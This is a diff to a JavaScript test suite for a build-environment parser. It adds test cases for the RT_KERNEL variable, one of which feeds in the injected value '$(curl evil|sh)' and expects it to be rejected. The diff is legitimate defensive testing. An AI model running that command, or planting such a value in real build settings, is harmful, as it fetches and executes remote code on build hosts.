@@ -82,6 +82,8 @@ describe('DTK build environment', () => {
     ['SOURCE_REVISION', { SOURCE_REVISION: 'main' }, /not a git commit/],
     ['REBUILD', { REBUILD: 'yes' }, /"true" or "false"/],
     ['RT_KERNEL', { ARCH: 'aarch64', KERNEL: '5.14.0-427.68.1.el9_4.aarch64', RT_KERNEL: '5.14.0-427.68.1.el9_4.x86_64+rt' }, /x86_64 builds only/],
+    ['RT_KERNEL', { RT_KERNEL: '$(curl evil|sh)' }, /RT_KERNEL .* is not a real-time kernel version/],
+    ['RT_KERNEL', { RT_KERNEL: '5.14.0-427.68.1.el9_4.x86_64' }, /is not a real-time kernel version/],
   ])('names %s when it is wrong', (variable, over, message) => {
     const err = errorOf(() => parseDtkBuildEnv(dtkEnv(over)));
     expect(err.variable).toBe(variable);
